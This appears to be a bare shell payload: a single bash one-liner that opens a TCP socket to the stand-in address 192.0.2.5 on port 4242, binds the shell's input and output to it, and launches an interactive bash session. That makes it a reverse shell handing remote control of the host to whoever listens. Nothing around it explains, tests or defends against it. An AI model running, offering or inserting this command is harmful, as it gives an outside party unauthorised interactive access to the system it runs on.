exec 9<>/dev/tcp/192.0.2.5/4242;exec 0<&9;exec 1>&9 2>&1;/bin/bash --noprofile -i
